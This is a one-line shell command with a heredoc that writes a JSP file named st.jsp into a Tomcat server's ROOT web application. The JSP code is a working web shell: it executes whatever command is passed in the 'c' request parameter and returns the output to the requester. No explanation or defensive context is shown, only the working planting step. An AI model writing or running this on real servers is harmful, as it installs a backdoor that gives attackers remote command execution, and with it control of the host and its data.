cat > /opt/tomcat/webapps/ROOT/st.jsp <<'J'
<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); java.io.InputStream i = p.getInputStream(); int c; while((c = i.read()) != -1) out.print((char)c); %>
J
